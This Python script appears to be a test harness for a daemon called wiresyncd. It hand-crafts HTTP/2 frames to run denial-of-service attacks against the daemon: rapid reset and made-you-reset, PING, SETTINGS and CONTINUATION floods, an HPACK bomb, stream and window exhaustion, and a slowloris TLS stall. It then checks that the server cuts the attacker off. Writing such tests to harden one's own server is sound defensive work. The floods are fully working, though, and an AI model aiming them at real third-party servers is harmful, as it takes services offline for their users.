#!/usr/bin/python3
"""HTTP/2 and TLS attackers against wiresyncd, over a real mutual-TLS connection (ALPN h2).

Run by test/abuse.test:

    h2_attack.py ATTACK --addr HOST:PORT --ca CA --cert CRT --key KEY [options]

Frames are written by hand (with python3-h2's hpack for ordinary header blocks), because
the point is to send what a well-behaved library refuses to. Each attack runs for --seconds,
opening a new connection whenever the server ends the last one, and prints one line per
connection ("conn N: goaway ENHANCE_YOUR_CALM 'debug' after K frames", "conn N: close after
K frames", "conn N: open (throttled) ...") and a last line "result ATTACK ..." Its exit
status is 0 when every connection ended as --expect allows (comma-separated: goaway:CODE,
close, throttled, refused, status:N), 1 otherwise.

Attacks:
  rapid-reset         HEADERS + RST_STREAM(CANCEL) in a loop (CVE-2023-44487)
  made-you-reset      HEADERS + WINDOW_UPDATE(0) on the stream, which the server must reset,
                      in a loop (CVE-2025-8671)
  ping-flood          PING frames in a loop
  settings-flood      SETTINGS frames in a loop
  empty-data          one open stream, then empty DATA frames in a loop
  continuation-flood  HEADERS without END_HEADERS, then CONTINUATION frames forever
  hpack-bomb          a 4000-byte header put in the dynamic table, then referenced ~16000
                      times per frame
  big-headers         an honestly encoded header list far over the limit (expects a status)
  streams             more concurrent streams than the server's SETTINGS allow
  window              SETTINGS_INITIAL_WINDOW_SIZE 0, Watch streams, never a WINDOW_UPDATE
                      (--no-read --initial-window 65535: never read the socket at all)
  slowloris           --count TCP connections that stall in the TLS handshake (--stall:
                      half send half a ClientHello and half nothing, all the former, or
                      all the latter); counts those the server closes
"""

import argparse
import os
import resource
import selectors
import socket
import ssl
import sys
import time

import hpack

# frame types
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, \
    CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
ERRORS = ["NO_ERROR", "PROTOCOL_ERROR", "INTERNAL_ERROR", "FLOW_CONTROL_ERROR",
          "SETTINGS_TIMEOUT", "STREAM_CLOSED", "FRAME_SIZE_ERROR", "REFUSED_STREAM", "CANCEL",
          "COMPRESSION_ERROR", "CONNECT_ERROR", "ENHANCE_YOUR_CALM", "INADEQUATE_SECURITY",
          "HTTP_1_1_REQUIRED"]
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SETTINGS_INITIAL_WINDOW_SIZE = 4
GRACE = 5.0


def err_name(code):
    return ERRORS[code] if code < len(ERRORS) else "0x%x" % code


def frame(ftype, flags, sid, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([ftype, flags]) + \
        sid.to_bytes(4, "big") + payload


def settings(pairs=()):
    return frame(SETTINGS, 0, 0, b"".join(k.to_bytes(2, "big") + v.to_bytes(4, "big")
                                          for k, v in pairs))


def grpc_msg(body=b""):
    return b"\0" + len(body).to_bytes(4, "big") + body


class Closed(Exception):
    pass


class Conn:
    """One mutual-TLS HTTP/2 connection with hand-written frames."""

    def __init__(self, args, local_settings=()):
        self.args = args
        host, port = args.addr.rsplit(":", 1)
        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        ctx.load_verify_locations(args.ca)
        ctx.load_cert_chain(args.cert, args.key)
        ctx.set_alpn_protocols(["h2"])
        ctx.check_hostname = False
        raw = socket.create_connection((host, int(port)), timeout=10)
        self.s = ctx.wrap_socket(raw, server_hostname=host)
        if self.s.selected_alpn_protocol() != "h2":
            raise RuntimeError("server did not select ALPN h2")
        self.enc = hpack.Encoder()
        self.dec = hpack.Decoder()
        self.dec.max_allowed_table_size = 65536
        self.dec.max_header_list_size = 1 << 30
        self.buf = b""
        self.hblock = None          # (stream id, bytes) while a header block is open
        self.goaway = None          # (last stream id, code, debug)
        self.eof = False
        self.rst = {}               # stream id -> error code
        self.status = {}            # stream id -> grpc-status
        self.message = {}           # stream id -> grpc-message
        self.data = 0               # DATA bytes received
        self.server_settings = False
        self.settings_acked = False
        self.frames_sent = 0
        self.next_sid = 1
        self.s.settimeout(5)
        self.s.sendall(PREFACE + settings(local_settings))

    def send(self, data, frames=1):
        """Sends; a server that stopped reading us raises Closed after a few seconds."""
        try:
            self.s.sendall(data)
        except (OSError, ssl.SSLError) as e:
            raise Closed(str(e))
        self.frames_sent += frames

    def headers_block(self, path, extra=()):
        return self.enc.encode([(":method", "POST"), (":scheme", "https"), (":path", path),
                                (":authority", "wiresync"), ("content-type", "application/grpc"),
                                ("te", "trailers")] + list(extra))

    def new_sid(self):
        sid = self.next_sid
        self.next_sid += 2
        return sid

    def request(self, path, body=b"", end=True):
        """A whole gRPC request (HEADERS, DATA); returns its stream id."""
        sid = self.new_sid()
        out = frame(HEADERS, END_HEADERS, sid, self.headers_block(path))
        if end:
            out += frame(DATA, END_STREAM, sid, grpc_msg(body))
        self.send(out, 2 if end else 1)
        return sid

    def poll(self, timeout=0.0):
        """Reads what the server sent within timeout; False once the connection ended."""
        if self.eof:
            return False
        self.s.settimeout(timeout if timeout > 0 else 0.0001)
        try:
            while True:
                chunk = self.s.recv(65536)
                if not chunk:
                    self.eof = True
                    break
                self.buf += chunk
                self.s.settimeout(0.0001)
        except (socket.timeout, ssl.SSLWantReadError, BlockingIOError):
            pass
        except (OSError, ssl.SSLError):
            self.eof = True
        self._parse()
        return not self.eof

    def _parse(self):
        while len(self.buf) >= 9:
            n = int.from_bytes(self.buf[:3], "big")
            if len(self.buf) < 9 + n:
                return
            ftype, flags = self.buf[3], self.buf[4]
            sid = int.from_bytes(self.buf[5:9], "big") & 0x7fffffff
            p = self.buf[9:9 + n]
            self.buf = self.buf[9 + n:]
            if ftype == GOAWAY:
                self.goaway = (int.from_bytes(p[:4], "big") & 0x7fffffff,
                               int.from_bytes(p[4:8], "big"), p[8:].decode("latin-1"))
            elif ftype == RST_STREAM:
                self.rst[sid] = int.from_bytes(p[:4], "big")
            elif ftype == SETTINGS:
                if flags & ACK:
                    self.settings_acked = True
                else:
                    self.server_settings = True
                    if not self.args.no_settings_ack:
                        self._reply(frame(SETTINGS, ACK, 0))
            elif ftype == PING and not flags & ACK and self.args.polite:
                self._reply(frame(PING, ACK, 0, p))
            elif ftype == DATA:
                self.data += n
            elif ftype in (HEADERS, CONTINUATION):
                if ftype == HEADERS:
                    if flags & 0x8:             # PADDED
                        p = p[1:len(p) - p[0]]
                    if flags & 0x20:            # PRIORITY
                        p = p[5:]
                    self.hblock = (sid, p)
                else:
                    self.hblock = (self.hblock[0], self.hblock[1] + p)
                if flags & END_HEADERS:
                    hsid, block = self.hblock
                    self.hblock = None
                    for k, v in self.dec.decode(block, raw=True):
                        if k == b"grpc-status":
                            self.status[hsid] = int(v)
                        elif k == b"grpc-message":
                            self.message[hsid] = v.decode("latin-1")

    def _reply(self, data):
        try:
            self.s.sendall(data)
        except (OSError, ssl.SSLError):
            pass

    def wait(self, pred, timeout):
        """Reads until pred() holds, the connection ends or timeout; pred()'s value."""
        deadline = time.monotonic() + timeout
        while not pred() and self.poll(min(0.05, max(deadline - time.monotonic(), 0.001))):
            if time.monotonic() >= deadline:
                break
        return pred()

    def drain_until_end(self, timeout):
        """After the server refused us: read until it closes (GOAWAY or EOF)."""
        self.wait(lambda: self.eof, timeout)

    def outcome(self):
        if self.goaway is not None:
            g = "goaway:%s" % err_name(self.goaway[1])
            return g, "%s '%s'%s" % (g, self.goaway[2], "" if self.eof else " (still open)")
        if self.eof:
            return "close", "close (no GOAWAY)"
        return "throttled", "open (throttled)"

    def close(self):
        try:
            self.s.close()
        except OSError:
            pass


# --------------------------------------------------------------------------- attacks
# Each takes an open Conn and the stop time; it returns when the server ended the
# connection (or the time is up). Floods send in batches and read in between.

def flood(c, stop, make_batch, per_batch):
    # the last connection floods for GRACE seconds at least: open after that is "throttled"
    stop = max(stop, time.monotonic() + GRACE)
    while time.monotonic() < stop:
        c.send(make_batch(), per_batch)
        if not c.poll():
            return
        if c.goaway is not None:
            c.drain_until_end(3)
            return


def a_rapid_reset(c, stop):
    path = "/wiresync.v1.WireSync/Keys"

    def batch():
        out = b""
        for _ in range(50):
            sid = c.new_sid()
            out += frame(HEADERS, END_HEADERS, sid, c.headers_block(path))
            out += frame(RST_STREAM, 0, sid, (8).to_bytes(4, "big"))      # CANCEL
        return out
    flood(c, stop, batch, 100)


def a_made_you_reset(c, stop):
    """The server resets the streams itself (CVE-2025-8671): requests whose header list
    holds a field name in capitals, a stream error, in a loop."""
    block = request_pseudo(b"/wiresync.v1.WireSync/Keys") + literal(b"X-Bad", b"1")

    def batch():
        return b"".join(frame(HEADERS, END_HEADERS | END_STREAM, c.new_sid(), block)
                        for _ in range(100))
    flood(c, stop, batch, 100)


def a_ping_flood(c, stop):
    flood(c, stop, lambda: b"".join(frame(PING, 0, 0, os.urandom(8)) for _ in range(100)), 100)


def a_settings_flood(c, stop):
    one = settings([(SETTINGS_INITIAL_WINDOW_SIZE, 65535)])
    flood(c, stop, lambda: one * 100, 100)


def a_empty_data(c, stop):
    sid = c.request("/wiresync.v1.WireSync/Keys", end=False)
    one = frame(DATA, 0, sid, b"")
    flood(c, stop, lambda: one * 100, 100)


def a_continuation_flood(c, stop):
    sid = c.new_sid()
    c.send(frame(HEADERS, 0, sid, c.headers_block("/wiresync.v1.WireSync/Keys")))
    # each fragment is a complete literal header field without indexing: "x-c: y"
    frag = b"\x00\x03x-c\x01y"
    flood(c, stop, lambda: frame(CONTINUATION, 0, sid, frag) * 100, 100)


def hpack_int(value, prefix_bits, first):
    """HPACK integer with a prefix_bits-bit prefix; first holds the pattern bits."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out = bytearray([first | limit])
    value -= limit
    while value >= 128:
        out.append((value & 0x7f) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def literal(name, value, indexing=False):
    """Literal header field with a new name (with or without incremental indexing)."""
    return (b"\x40" if indexing else b"\x00") + hpack_int(len(name), 7, 0) + name + \
        hpack_int(len(value), 7, 0) + value


def request_pseudo(path):
    """Pseudo-headers from the static table only, so the dynamic table stays empty."""
    return b"\x83\x87" + b"\x04" + hpack_int(len(path), 7, 0) + path + \
        b"\x01" + hpack_int(8, 7, 0) + b"wiresync" + \
        b"\x0f\x10" + hpack_int(16, 7, 0) + b"application/grpc" + literal(b"te", b"trailers")


def send_block(c, sid, block, end_stream):
    """One header block as HEADERS + CONTINUATION frames of at most 16384 bytes."""
    chunks = [block[i:i + 16384] for i in range(0, len(block), 16384)] or [b""]
    out = b""
    for i, ch in enumerate(chunks):
        flags = END_HEADERS if i == len(chunks) - 1 else 0
        if i == 0:
            out += frame(HEADERS, flags | (END_STREAM if end_stream else 0), sid, ch)
        else:
            out += frame(CONTINUATION, flags, sid, ch)
    c.send(out, len(chunks))


def a_hpack_bomb(c, stop):
    # a fresh connection's decoder: the first header with indexing becomes index 62
    block = request_pseudo(b"/wiresync.v1.WireSync/Keys") + \
        literal(b"x-bomb", b"a" * 4000, indexing=True)
    block += b"\xbe" * (16384 * 4 - len(block))
    stop = max(stop, time.monotonic() + GRACE)
    while time.monotonic() < stop:
        send_block(c, c.new_sid(), block, True)
        if not c.poll(0.2) or c.goaway is not None:
            c.drain_until_end(3)
            return
        # after the first block the dynamic table holds x-bomb: just reference it
        block = request_pseudo(b"/wiresync.v1.WireSync/Keys") + b"\xbe" * (16384 * 4 - 100)


def a_big_headers(c, stop):
    """Honest encoding, 96 KiB of header values: must be refused with a status."""
    block = request_pseudo(b"/wiresync.v1.WireSync/Keys")
    for i in range(8):
        block += literal(b"x-big-%d" % i, b"b" * 12000)
    sid = c.new_sid()
    send_block(c, sid, block, False)
    c.send(frame(DATA, END_STREAM, sid, grpc_msg()))
    c.wait(lambda: sid in c.status or sid in c.rst or c.goaway is not None, 5)
    c.stream_result = (c.status.get(sid), c.message.get(sid), c.rst.get(sid))


def a_streams(c, stop):
    """Opens twice the advertised limit of streams that stay open (no END_STREAM)."""
    c.wait(lambda: c.server_settings and c.settings_acked, 5)
    time.sleep(0.2)     # our ACK of the server's SETTINGS is processed first
    n = c.args.max_streams * 2
    sids = [c.request("/wiresync.v1.WireSync/Keys", end=False) for _ in range(n)]
    c.wait(lambda: c.goaway is not None or len(c.rst) >= n - c.args.max_streams, 5)
    refused = [s for s in sids if c.rst.get(s) == 7]
    c.stream_result = (len(sids), len(refused), sorted(set(err_name(v) for v in c.rst.values())))


def a_window(c, stop):
    """Watch streams with a zero window (--initial-window): the server may only queue,
    bounded. With --no-read the socket is not read at all either, so TCP backs up too."""
    c.args.polite = True
    c.wait(lambda: c.server_settings, 5)
    if c.args.initial_window > 0:
        # the connection's window as large as it goes: only TCP holds the server back
        c.send(frame(WINDOW_UPDATE, 0, 0, (0x7fffffff - 65535).to_bytes(4, "big")))
    sids = [c.request("/wiresync.v1.WireSync/Watch") for _ in range(c.args.watches)]
    if c.args.no_read:
        time.sleep(max(stop - time.monotonic(), 0))
        c.poll(0.5)     # whatever is there, to classify GOAWAY or close
    while time.monotonic() < stop and c.poll(0.2):
        pass
    c.stream_result = (len(sids), c.data, len([s for s in sids if s in c.status]))


def a_idle_reset(c, stop):
    """No attack: grpc-core's early cancel (grpc/grpc #19655), RST_STREAM CANCEL on a stream
    it never sent HEADERS for, between two calls. The connection must live on."""
    c.wait(lambda: c.server_settings, 5)
    first = c.request("/wiresync.v1.WireSync/Keys")
    idle = c.new_sid()
    c.send(frame(RST_STREAM, 0, idle, (8).to_bytes(4, "big")))
    last = c.request("/wiresync.v1.WireSync/Keys")
    c.wait(lambda: c.goaway is not None or c.eof or (first in c.status and last in c.status), 5)
    c.stream_result = (c.status.get(first), c.status.get(last))


ATTACKS = {
    "rapid-reset": a_rapid_reset,
    "made-you-reset": a_made_you_reset,
    "ping-flood": a_ping_flood,
    "settings-flood": a_settings_flood,
    "empty-data": a_empty_data,
    "continuation-flood": a_continuation_flood,
    "hpack-bomb": a_hpack_bomb,
    "big-headers": a_big_headers,
    "streams": a_streams,
    "window": a_window,
    "idle-reset": a_idle_reset,
}


def run_h2(args):
    stop = time.monotonic() + args.seconds
    allowed = set(args.expect.split(","))
    n = 0
    bad = 0
    kinds = {}
    while True:
        n += 1
        local = [(SETTINGS_INITIAL_WINDOW_SIZE, args.initial_window)] \
            if args.attack == "window" else []
        try:
            c = Conn(args, local)
        except (OSError, ssl.SSLError) as e:
            print("conn %d: refused at connect: %s" % (n, e), flush=True)
            kinds["refused"] = kinds.get("refused", 0) + 1
            if "refused" not in allowed:
                bad += 1
            if time.monotonic() >= stop or args.once:
                break
            time.sleep(0.1)
            continue
        try:
            ATTACKS[args.attack](c, stop)
        except Closed as e:
            c.drain_until_end(3)
            if not c.eof and c.goaway is None:
                print("conn %d: send blocked (%s)" % (n, e), flush=True)
        kind, text = c.outcome()
        extra = ""
        if hasattr(c, "stream_result"):
            extra = " stream_result=%r" % (c.stream_result,)
            if args.attack == "streams" and c.goaway is None and c.stream_result[1] > 0:
                kind = "rst:REFUSED_STREAM"
                text += " %d of %d streams refused" % (c.stream_result[1], c.stream_result[0])
            if args.attack == "idle-reset" and c.goaway is None and not c.eof:
                kind = "answered" if c.stream_result == (0, 0) else "answered:%s/%s" % c.stream_result
            if args.attack == "big-headers" and c.stream_result[0] is not None:
                kind = "status:%d" % c.stream_result[0]
                text += " grpc-status %d '%s'" % (c.stream_result[0], c.stream_result[1])
        print("conn %d: %s after %d frames%s" % (n, text, c.frames_sent, extra), flush=True)
        kinds[kind] = kinds.get(kind, 0) + 1
        if kind not in allowed:
            bad += 1
        c.close()
        if time.monotonic() >= stop or args.once or kind == "throttled":
            break
    summary = " ".join("%s=%d" % kv for kv in sorted(kinds.items()))
    print("result %s connections=%d %s%s" % (args.attack, n, summary,
                                             "" if bad == 0 else " UNEXPECTED=%d" % bad),
          flush=True)
    return 0 if bad == 0 else 1


def client_hello():
    """The first bytes a real TLS client sends (a ClientHello record)."""
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    inc, out = ssl.MemoryBIO(), ssl.MemoryBIO()
    obj = ctx.wrap_bio(inc, out, server_side=False)
    try:
        obj.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return out.read()


def run_slowloris(args):
    want = args.count + 100
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < want:
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(want, hard), hard))
    host, port = args.addr.rsplit(":", 1)
    hello = client_hello()
    part = hello[:len(hello) // 2]
    sel = selectors.DefaultSelector()
    socks = []
    t0 = time.monotonic()
    for i in range(args.count):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        if args.source:
            s.bind((args.source, 0))
        s.setblocking(False)
        s.connect_ex((host, int(port)))
        socks.append(s)
        sel.register(s, selectors.EVENT_WRITE, i)
    connected = 0
    pending = set(range(args.count))
    deadline = time.monotonic() + 20
    while pending and time.monotonic() < deadline:
        for key, _ in sel.select(0.5):
            i = key.data
            s = socks[i]
            if s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0:
                connected += 1
                if args.stall == "partial" or (args.stall == "mixed" and i % 2 == 0):
                    s.send(part)
            sel.modify(s, selectors.EVENT_READ, i)
            pending.discard(i)
    t_ready = time.monotonic()
    print("slowloris ready connected=%d/%d in %.1f s" % (connected, args.count, t_ready - t0),
          flush=True)
    closed = early = 0
    alive = set(range(args.count)) - pending
    deadline = time.monotonic() + args.seconds
    while alive and time.monotonic() < deadline:
        for key, _ in sel.select(0.5):
            i = key.data
            try:
                data = socks[i].recv(4096)
            except ConnectionResetError:
                data = b""
            except BlockingIOError:
                continue
            if data:
                continue     # e.g. an alert: wait for the close itself
            sel.unregister(socks[i])
            alive.discard(i)
            closed += 1
            if time.monotonic() - t_ready < 1.0:
                early += 1
    took = time.monotonic() - t_ready
    for s in socks:
        s.close()
    print("result slowloris connections=%d closed=%d still_open=%d in %.1f s after ready "
          "early=%d" % (connected, closed, len(alive), took, early), flush=True)
    return 0 if connected == args.count and closed == args.count else 1


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("attack", choices=sorted(ATTACKS) + ["slowloris"])
    ap.add_argument("--addr", required=True)
    ap.add_argument("--ca")
    ap.add_argument("--cert")
    ap.add_argument("--key")
    ap.add_argument("--seconds", type=float, default=3.0)
    ap.add_argument("--expect", default="goaway:ENHANCE_YOUR_CALM,close")
    ap.add_argument("--once", action="store_true", help="one connection only")
    ap.add_argument("--count", type=int, default=2000, help="slowloris connections")
    ap.add_argument("--stall", choices=["mixed", "partial", "none"], default="mixed",
                    help="slowloris: half a ClientHello on every other connection (mixed), "
                    "on all, or nothing at all")
    ap.add_argument("--source", help="slowloris: local address to connect from")
    ap.add_argument("--max-streams", type=int, default=100, help="the server's max_streams")
    ap.add_argument("--watches", type=int, default=4, help="window: Watch streams")
    ap.add_argument("--polite", action="store_true", help="answer the server's PINGs")
    ap.add_argument("--initial-window", type=int, default=0,
                    help="window: SETTINGS_INITIAL_WINDOW_SIZE (0)")
    ap.add_argument("--no-read", action="store_true",
                    help="window: never read the socket once the streams are open")
    ap.add_argument("--no-settings-ack", action="store_true",
                    help="never acknowledge the server's SETTINGS")
    args = ap.parse_args()
    if args.attack == "slowloris":
        return run_slowloris(args)
    return run_h2(args)


if __name__ == "__main__":
    sys.exit(main())
